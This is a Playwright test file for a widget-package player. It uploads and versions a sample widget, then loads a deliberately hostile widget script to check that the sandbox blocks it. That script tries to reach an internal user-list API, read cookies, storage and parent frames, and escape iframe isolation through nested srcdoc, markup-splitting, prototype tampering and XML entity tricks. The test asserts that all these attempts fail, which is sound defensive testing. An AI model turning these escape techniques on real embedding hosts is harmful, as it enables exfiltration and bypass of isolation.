import { type AddressInfo, createServer } from 'node:net';
import { expect, type FrameLocator, type Page } from 'playwright/test';
import { someFiles, someWidgetPackage, zipOf } from '@/apm-web/test/widget-packages';
import type { Widget } from '@/lib/contract/program';
import { programDetail, programList } from '@/lib/contract/program/calls';
import { ownWidgetUpload, ownWidgetVersion } from '@/lib/contract/widget-package';
import { valuesFor } from '@/lib/widgets';
import type { Site } from './support/site';
import { test } from './support/test';
import { open } from './support/wait-until-idle';
import { WidgetStage } from './support/widget-stage';

/** A package from its ZIP to a screen, and the limits of a malicious one. */
let stage: WidgetStage;
let site: Site;
let player: Page;

test.beforeAll(async ({ browser, product }) => {
  stage = await WidgetStage.open(browser, product);
  ({ site, player } = stage);
});

test.afterAll(() => stage?.close());

/** Content of a package: its page is a frame inside the isolating frame. */
const drawn = (page: Page): FrameLocator =>
  page.frameLocator('iframe[src="/player/packageFrame"]').last().frameLocator('iframe');

const zipFile = (buffer: Buffer) => ({ name: 'greeting.zip', mimeType: 'application/zip', buffer });

test('plays an uploaded widget and its newer version once chosen', { tag: '@gate' }, async ({ complaints }) => {
  complaints.allow(/status of 400/);
  const { page } = site;
  await open(page, `${site.product.url}/widget/list`);
  await page.getByRole('button', { name: 'Upload package' }).first().click();
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel('ZIP file').setInputFiles(zipFile(await zipOf({ 'index.html': '<p>' })));
  await dialog.getByRole('button', { name: 'Upload', exact: true }).click();
  await expect(dialog.getByRole('alert')).toHaveText('The package has no widget.json at its top.');
  await expect(dialog.getByRole('button', { name: 'Choose file' })).toBeFocused();
  await dialog.getByLabel('ZIP file').setInputFiles(zipFile(await someWidgetPackage()));
  await dialog.getByRole('button', { name: 'Upload', exact: true }).click();
  await expect(page.getByRole('row', { name: /Greeting/, includeHidden: true })).toContainText('1.0');

  const id = await stage.saved('Greets');
  await stage.edit(id);
  await page.getByRole('button', { name: 'From the widget library' }).click();
  await page
    .getByRole('dialog')
    .getByRole('button', { name: /Greeting/ })
    .click();
  await page.getByRole('textbox', { name: 'Greeting', exact: true }).fill('Good evening');
  const revision = async () => (await site.client.call(programList, {})).list.find((each) => each.id === id)?.revision;
  await expect.poll(revision).toBeGreaterThan(1);
  await expect(page.getByText('Saved', { exact: false }).first()).toBeVisible();

  const inEditor = await stage.placeInEditor();
  await stage.publish(id);
  await expect(drawn(player).locator('#greeting')).toHaveText('Good evening', { timeout: 45_000 });
  await expect.poll(() => stage.awayFrom(inEditor)).toBeLessThan(0.5);

  await open(page, `${site.product.url}/widget/list`);
  const row = page.getByRole('row', { name: /Greeting/, includeHidden: true });
  await row.press('Enter');
  const detail = page.getByRole('dialog', { name: 'Greeting' });
  await detail.getByRole('button', { name: 'New version' }).press('Enter');
  const louder = someFiles('1.1')['js/draw.js']?.toString().replace('= text', "= text + '!'");
  await dialog
    .getByLabel('ZIP file')
    .setInputFiles(zipFile(await someWidgetPackage('1.1', { 'js/draw.js': louder ?? '' })));
  await dialog.getByRole('button', { name: 'Upload', exact: true }).press('Enter');
  await expect(page.getByText('Version 1.1 is in the library.')).toBeVisible();
  // Not requested: the program keeps the version it had.
  await expect(detail.getByText('1 (1 on an earlier version)')).toBeVisible();
  const shownIn = async () =>
    (await site.client.call(programDetail, { id })).document.scenes[0]?.widgets.map(
      (each) => each.type === 'package' && each.of.version,
    );
  expect(await shownIn()).toEqual(['1.0']);
  await detail.getByRole('button', { name: 'Move programs to the newest version' }).press('Enter');
  await expect(page.getByText('1 program uses the newest version now')).toBeVisible();
  expect(await shownIn()).toEqual(['1.1']);
  await expect(drawn(player).locator('#greeting')).toHaveText('Good evening');
  await stage.publish(id);
  await expect(drawn(player).locator('#greeting')).toHaveText('Good evening!', { timeout: 45_000 });
});

/** Tries forbidden things, and records the result of each. */
const HARM = `
const results = {};
const attempt = async (name, what) => {
  const late = new Promise((resolve, reject) => setTimeout(reject, 2000));
  try { results[name] = String(await Promise.race([what(), late])); } catch (error) { results[name] = 'refused'; }
};
const blocked = (element, url) => new Promise((resolve, reject) => {
  element.onload = () => resolve('loaded');
  element.onerror = reject;
  element.src = url;
  document.body.append(element);
});
for (const name of ['includes', 'toLowerCase', 'replace']) String.prototype[name] = function () { return name === 'includes' ? false : this; };
RegExp.prototype.test = () => false;
// A frame within this one has a window of its own, with all that was taken from this one.
const SCRIPT = 'new RTCPeerConnection(); parent.postMessage("peer", "*")';
const peerWithin = (fill) => new Promise((resolve, reject) => {
  addEventListener('message', ({ data }) => { if (data === 'peer') resolve('peer'); });
  const frame = document.createElement('iframe');
  try { fill(frame, '<script>' + SCRIPT + '<' + '/script>'); } catch (error) { reject(error); }
  document.body.append(frame);
});
// While the page is read; later the page would be gone with it. In two parts, neither of which has the word.
const written = peerWithin((frame, page) => {
  document.write('<iframe src');
  document.write('doc="' + page.replaceAll('"', '&quot;') + '"></iframe>');
});
written.catch(() => undefined);
(async () => {
  const own = 'TARGET';
  await attempt('fetch', async () => (await fetch(own + '/apm-web/a/api/user/list')).status);
  await attempt('beacon', async () => { if (!navigator.sendBeacon(own + '/harm-beacon')) throw 0; return 'queued'; });
  await attempt('image', () => blocked(new Image(), own + '/harm-image.png'));
  await attempt('script', () => blocked(document.createElement('script'), own + '/harm-script.js'));
  await attempt('socket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket(own.replace('http', 'ws') + '/harm-socket');
    socket.onopen = resolve; socket.onerror = reject;
  }));
  await attempt('parent', () => parent.document.body.innerHTML);
  await attempt('top', () => top.document.title);
  await attempt('storage', () => localStorage.length);
  await attempt('cookies', () => document.cookie + 'read');
  await attempt('database', () => new Promise((resolve, reject) => { const o = indexedDB.open('x'); o.onsuccess = resolve; o.onerror = reject; }));
  await attempt('worker', () => new Promise((resolve, reject) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = resolve; w.onerror = reject; }));
  await attempt('navigateTop', () => { top.location.href = own + '/harm-top'; return 'went'; });
  await attempt('popup', () => { if (window.open(own + '/harm-popup') === null) throw 0; return 'opened'; });
  await attempt('peer', () => new RTCPeerConnection());
  await attempt('nested', () => peerWithin((frame, page) => { frame.srcdoc = page; }));
  await attempt('nestedAttribute', () => peerWithin((frame, page) => frame.setAttribute('SRCDOC', page)));
  await attempt('nestedNode', () => peerWithin((frame, page) => {
    const node = document.createAttribute('srcdoc');
    node.value = page;
    frame.setAttributeNode(node);
  }));
  await attempt('nestedMarkup', () => peerWithin((frame, page) => {
    frame = null;
    document.body.insertAdjacentHTML('beforeend', '<iframe srcDoc="' + page.replaceAll('"', '&quot;') + '"></iframe>');
  }));
  await attempt('nestedWritten', () => written);
  await attempt('nestedScript', () => peerWithin((frame, page) => { frame.src = 'javascript:' + SCRIPT; }));
  await attempt('nestedBlank', () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return new frame.contentWindow.RTCPeerConnection();
  });
  const connecting = () => Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'KNOCKED' });
  await attempt('link', () => document.head.append(connecting()));
  await attempt('linkNamespace', () => {
    Object.defineProperty(Element.prototype, 'localName', { get: () => 'p' });
    const link = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link');
    document.head.append(Object.assign(link, { rel: 'preconnect', href: 'KNOCKED' }));
  });
  await attempt('linkMarkup', () => document.body.insertAdjacentHTML('beforeend', '<LINK rel=preconnect href="KNOCKED">'));
  const XHTML = 'http://www.w3.org/1999/xhtml';
  const parsed = (xml) => document.head.append(document.adoptNode(new DOMParser().parseFromString(xml, 'text/xml').documentElement.firstChild));
  await attempt('linkParsed', () => parsed('<a><x:link xmlns:x="' + XHTML + '" rel="preconnect" href="KNOCKED"/></a>'));
  await attempt('linkEntity', () => parsed('<!DOCTYPE a [<!ENTITY b "&#60;link xmlns=&#34;' + XHTML + '&#34; rel=&#34;preconnect&#34; href=&#34;KNOCKED&#34;/>">]><a>&b;</a>'));
  await attempt('linkDocument', () => {
    const { documentElement } = document.implementation.createDocument(XHTML, 'link');
    document.head.append(Object.assign(document.adoptNode(documentElement), { rel: 'preconnect', href: 'KNOCKED' }));
  });
  await attempt('linkOwn', () => {
    class Own extends HTMLLinkElement {}
    customElements.define('own-link', Own, { extends: 'link' });
    document.head.append(Object.assign(new Own(), { rel: 'preconnect', href: 'KNOCKED' }));
  });
  await attempt('linkSanitized', () => {
    document.body.setHTML('<link rel=preconnect href="KNOCKED">', { sanitizer: { elements: ['link'], attributes: ['rel', 'href'] } });
  });
  const framed = (name, key) => () => {
    document.body.append(Object.assign(document.createElement(name), { [key]: 'KNOCKED' }));
    return 'made';
  };
  await attempt('frame', framed('iframe', 'src'));
  await attempt('object', framed('object', 'data'));
  await attempt('embed', framed('embed', 'src'));
  await attempt('frameset', () => {
    document.createElement('frameset').innerHTML = '<frame src="KNOCKED">';
    return 'made';
  });
  await attempt('frameMarkup', () => document.body.insertAdjacentHTML('beforeend', '<iframe src="KNOCKED"></iframe>'));
  await attempt('frameShadow', () => document.body.attachShadow({ mode: 'open' }).setHTMLUnsafe('<object data="KNOCKED"></object>'));
  await attempt('later', () => fetchLater('KNOCKED').activated);
  await attempt('transport', () => new WebTransport('KNOCKED'.replace('http:', 'https:')).ready);
  await attempt('module', () => import('KNOCKED'));
  await attempt('media', () => new Promise((resolve, reject) => {
    const video = document.createElement('video');
    video.onerror = reject; video.onloadstart = null; video.onloadedmetadata = resolve;
    video.src = 'KNOCKED';
  }));
  await attempt('meta', () => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'x-dns-prefetch-control', content: 'on' })));
  await attempt('pageOfAddress', () => {
    location.href = 'javascript:"<p>anew</p>"';
    return new Promise((resolve, reject) => setTimeout(reject, 500));
  });
  await attempt('policy', () => trustedTypes.createPolicy('default', { createHTML: (html) => html }));
  await attempt('form', () => { const f = document.createElement('form'); f.action = own + '/harm-form'; document.body.append(f); f.submit(); throw 0; });
  const title = document.getElementById('greeting');
  title.dataset.results = JSON.stringify(results);
  title.textContent = 'tried';
})();
`;

test('keeps a harmful widget from network, pages and storage', async ({ product, complaints }) => {
  // Each attempt is refused and reported.
  complaints.allow(/./);
  let knocks = 0;
  const door = createServer((socket) => {
    knocks += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => door.listen(0, '127.0.0.1', resolve));
  const { port } = door.address() as AddressInfo;
  const knocked = `http://127.0.0.1:${port}/`;
  const harm = HARM.replace('TARGET', product.url).replaceAll('KNOCKED', knocked);
  const manifest = someFiles('6.6');
  const page = String(manifest['index.html']).replace(
    '<script src',
    `<template shadowrootmode="open"><iframe src="${knocked}"></iframe></template><script type="speculationrules">{"prefetch":[{"source":"list","urls":["${knocked}"]}]}</script><noscript><p title="</noscript><iframe src='${knocked}'></iframe>"></p></noscript><script src`,
  );
  const zip = await zipOf({ ...manifest, 'index.html': page, 'js/draw.js': harm });
  const file = new Blob([new Uint8Array(zip)]);
  const { versionId } = await site.client.call(ownWidgetUpload, { file });
  const version = await site.client.call(ownWidgetVersion, { id: versionId });
  const widget: Widget = {
    id: 'harm',
    type: 'package',
    name: 'Harm',
    x: 0,
    y: 0,
    w: 640,
    h: 360,
    rotation: 0,
    opacity: 1,
    locked: false,
    hidden: false,
    of: { materialId: versionId, md5: version.md5, title: 'Harm', version: '6.6', picture: null },
    values: valuesFor(version.manifest),
    interactive: true,
  };
  const programId = await stage.saved('Harm', [widget]);
  const asked: string[] = [];
  player.on('request', (request) => {
    if (/harm-|user\/list/.test(request.url()) && !request.failure()) asked.push(request.url());
  });
  const answered: string[] = [];
  player.on('response', (response) => {
    if (/harm-|user\/list/.test(response.url())) answered.push(response.url());
  });
  const read = new Promise<Record<string, string>>((resolve) => {
    const look = async () => {
      const text = await drawn(player)
        .locator('#greeting[data-results]')
        .getAttribute('data-results', { timeout: 45_000 });
      resolve(JSON.parse(text ?? '{}') as Record<string, string>);
    };
    void look();
  });
  await stage.publish(programId);
  const results = await read;
  // A frame can navigate itself; the result is an error page, without a connection.
  await drawn(player)
    .locator('#greeting')
    .evaluate((_, address) => {
      location.href = address;
    }, knocked);
  await expect.poll(() => player.frames().some((frame) => frame.url().startsWith('chrome-error:'))).toBe(true);
  const frames = ['frame', 'object', 'embed', 'frameset', 'frameMarkup', 'frameShadow'];
  const loads = ['later', 'transport', 'module', 'media'];
  const names = ['fetch', 'beacon', 'image', 'script', 'socket', 'parent', 'top', 'storage', 'cookies', 'database'];
  const more = ['worker', 'navigateTop', 'popup', 'peer', 'form', 'policy', 'meta', 'pageOfAddress'];
  const links = ['', 'Namespace', 'Markup', 'Parsed', 'Entity', 'Document', 'Own', 'Sanitized'].map(
    (way) => `link${way}`,
  );
  const nested = ['', 'Attribute', 'Node', 'Markup', 'Written', 'Script', 'Blank'].map((way) => `nested${way}`);
  // A beacon that the policy refuses reports that it was queued.
  const { beacon: _, ...others } = results;
  expect(others).toEqual(
    Object.fromEntries(
      [...names, ...more, ...frames, ...loads, ...links, ...nested]
        .filter((name) => name !== 'beacon')
        .map((name) => [name, 'refused']),
    ),
  );
  expect(player.url()).toBe(`${product.url}/player`);
  expect(answered).toEqual([]);
  expect(knocks).toBe(0);
  door.close();
});
